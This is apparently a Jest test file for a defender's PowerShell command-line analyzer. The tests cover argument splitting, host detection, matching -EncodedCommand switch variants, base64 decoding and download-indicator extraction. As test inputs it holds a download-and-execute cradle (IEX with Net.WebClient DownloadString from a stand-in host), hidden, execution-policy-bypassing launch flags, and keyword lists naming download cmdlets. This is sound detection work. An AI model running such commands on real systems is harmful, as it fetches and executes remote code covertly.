import {
  baseName,
  decodeEncodedCommand,
  downloadIndicators,
  extractUrls,
  findEncodedCommand,
  powerShellHostOf,
  splitCommandLine,
} from "./powershell";

const PS = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const PWSH = "C:\\Program Files\\PowerShell\\7\\pwsh.exe";
const enc = (script: string) => Buffer.from(script, "utf16le").toString("base64");
const B64 = enc("Get-Date");

describe("splitCommandLine (CommandLineToArgvW rules)", () => {
  it.each<[string, string[]]>([
    ["a b  c", ["a", "b", "c"]],
    ['"C:\\Program Files\\x.exe" -a', ["C:\\Program Files\\x.exe", "-a"]],
    ['a"b c"d', ["ab cd"]],
    ['\\"a', ['"a']],
    ['\\\\"a b"', ["\\a b"]],
    ['"a""b"', ['a"b']],
    ["C:\\dir\\ x", ["C:\\dir\\", "x"]],
    ['""', [""]],
    ["", []],
    ["\t a \r\n b ", ["a", "b"]],
  ])("%j → %j", (line, args) => {
    expect(splitCommandLine(line)).toEqual(args);
  });
});

describe("powerShellHostOf", () => {
  it.each<[string, string | null]>([
    [PS, "windows-powershell"],
    ["C:\\Windows\\SysWOW64\\WindowsPowerShell\\v1.0\\PowerShell.EXE", "windows-powershell"],
    ["C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell_ise.exe", "windows-powershell"],
    [PWSH, "pwsh"],
    ["/usr/bin/pwsh", "pwsh"],
    ["/opt/microsoft/powershell/7/pwsh", "pwsh"],
    ["C:\\Windows\\System32\\cmd.exe", null],
    ["C:\\Users\\Public\\powershell.exe.bak", null],
    ["C:\\Tools\\notpwsh.exe", null],
  ])("%s → %s", (image, host) => {
    expect(powerShellHostOf(image)).toBe(host);
  });

  it("takes the file name of either separator", () => {
    expect(baseName("C:\\a/b\\c.exe")).toBe("c.exe");
    expect(baseName("/usr/bin/node")).toBe("node");
    expect(baseName("node")).toBe("node");
  });
});

describe("findEncodedCommand: PowerShell's own parameter matching", () => {
  // Every prefix of EncodedCommand from `e`, plus the `ec` alias, with `-`, `/`, `--` and Unicode dashes.
  const encodedSwitches = [
    "-e",
    "-E",
    "-ec",
    "-EC",
    "-en",
    "-enc",
    "-Enc",
    "-ENCO",
    "-encod",
    "-encode",
    "-encoded",
    "-encodedc",
    "-encodedcom",
    "-EncodedCommand",
    "/enc",
    "/EncodedCommand",
    "--encodedcommand",
    "\u2013enc",
    "\u2014e",
    "\u2015ec",
  ];
  it.each(encodedSwitches)("%s is EncodedCommand", (parameter) => {
    expect(findEncodedCommand(PS, `powershell.exe ${parameter} ${B64}`)).toEqual({
      host: "windows-powershell",
      parameter,
      payload: B64,
    });
  });

  it.each<[string, string, string]>([
    ["after flags and values", PS, `powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Enc ${B64}`],
    ["with -Version 2 (Windows PowerShell)", PS, `powershell.exe -Version 2 -enc ${B64}`],
    ["with an execution policy alias", PWSH, `pwsh.exe -ep Bypass -ec ${B64}`],
    ["with a quoted executable", PS, `"${PS}" -NoProfile -EncodedCommand ${B64}`],
    ["without the executable in the command line", PS, `-nop -w hidden -e ${B64}`],
    ["with a working directory", PWSH, `pwsh -wd C:\\Temp -e ${B64}`],
    ["on Linux", "/usr/bin/pwsh", `/usr/bin/pwsh -NoLogo -NonInteractive -enc ${B64}`],
    ["after an empty argument", PS, `powershell.exe "" -enc ${B64}`],
  ])("finds it %s", (_name, image, commandLine) => {
    expect(findEncodedCommand(image, commandLine)?.payload).toBe(B64);
  });

  it.each<[string, string, string]>([
    ["-ExecutionPolicy is not EncodedCommand", PS, "powershell.exe -ExecutionPolicy Bypass -File C:\\s.ps1"],
    ["-ex is ExecutionPolicy", PS, `powershell.exe -ex ${B64}`],
    ["-exec is ExecutionPolicy", PS, `powershell.exe -exec ${B64}`],
    ["-ep is ExecutionPolicy", PS, `powershell.exe -ep ${B64}`],
    ["-ea is EncodedArguments", PS, `powershell.exe -ea ${B64}`],
    ["-EncodedArguments is not EncodedCommand", PS, `powershell.exe -EncodedArguments ${B64}`],
    ["a longer name is not a prefix", PS, `powershell.exe -encodedcommands ${B64}`],
    ["-e after -Command belongs to the command", PS, `powershell.exe -Command "Write-Output -e ${B64}"`],
    ["-e after -c belongs to the command", PS, `powershell.exe -c Write-Output -enc ${B64}`],
    ["-e after -File belongs to the script", PS, `powershell.exe -File C:\\Ops\\x.ps1 -e ${B64}`],
    ["-e after an implicit script belongs to the script", PS, `powershell.exe C:\\Ops\\x.ps1 -enc ${B64}`],
    ["an unknown switch ends the host's parameters", PS, `powershell.exe -Foo -enc ${B64}`],
    ["-enc as the value of -WindowStyle", PS, `powershell.exe -WindowStyle -enc ${B64}`],
    ["-v makes PowerShell 7 print its version", PWSH, `pwsh -v -enc ${B64}`],
    ["a switch without its payload", PS, "powershell.exe -NoProfile -enc"],
    ["not a PowerShell host", "C:\\Windows\\System32\\cmd.exe", `cmd.exe /c echo -enc ${B64}`],
    ["a lone dash", PS, `powershell.exe - -enc ${B64}`],
  ])("no match: %s", (_name, image, commandLine) => {
    expect(findEncodedCommand(image, commandLine)).toBeNull();
  });
});

describe("decodeEncodedCommand", () => {
  it("decodes base64 of UTF-16LE like the host", () => {
    const script = "IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.example.net/a.ps1')";
    expect(decodeEncodedCommand(enc(script))).toEqual({ text: script, truncated: false });
  });

  it("ignores white space in the payload", () => {
    const b64 = enc("Get-Process");
    expect(decodeEncodedCommand(`${b64.slice(0, 8)} \n${b64.slice(8)}`)?.text).toBe("Get-Process");
  });

  it("bounds the decoded text", () => {
    const decoded = decodeEncodedCommand(enc("A".repeat(10_000)), 100);
    expect(decoded).toEqual({ text: "A".repeat(100), truncated: true });
  });

  it.each(["not base64!", "abc", "", "====", "QQ=A"])("rejects %j", (payload) => {
    expect(decodeEncodedCommand(payload)).toBeNull();
  });
});

describe("downloadIndicators and extractUrls", () => {
  it.each<[string, string[]]>([
    [
      "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')",
      ["Net.WebClient", "DownloadString", "IEX"],
    ],
    ["iwr http://x.example/a -OutFile a.exe", ["Invoke-WebRequest"]],
    ["Invoke-RestMethod https://x.example | Invoke-Expression", ["Invoke-RestMethod", "IEX"]],
    ["(New-Object System.Net.WebClient).DownloadFile($u, $p)", ["Net.WebClient", "DownloadFile"]],
    ["Start-BitsTransfer -Source $u -Destination $p", ["Start-BitsTransfer"]],
    ["Get-ScheduledTask | Export-Csv C:\\tasks.csv", []],
    ["Write-Output 'iexplore'", []],
  ])("%s", (text, expected) => {
    expect(downloadIndicators(text)).toEqual(expected);
  });

  it("extracts distinct URLs, bounded", () => {
    expect(
      extractUrls("a 'http://x.example/a.ps1'; b https://y.example/b?q=1. http://x.example/a.ps1"),
    ).toEqual(["http://x.example/a.ps1", "https://y.example/b?q=1"]);
    expect(extractUrls(Array.from({ length: 9 }, (_, i) => `http://h${i}.example/`).join(" "))).toHaveLength(
      5,
    );
  });
});
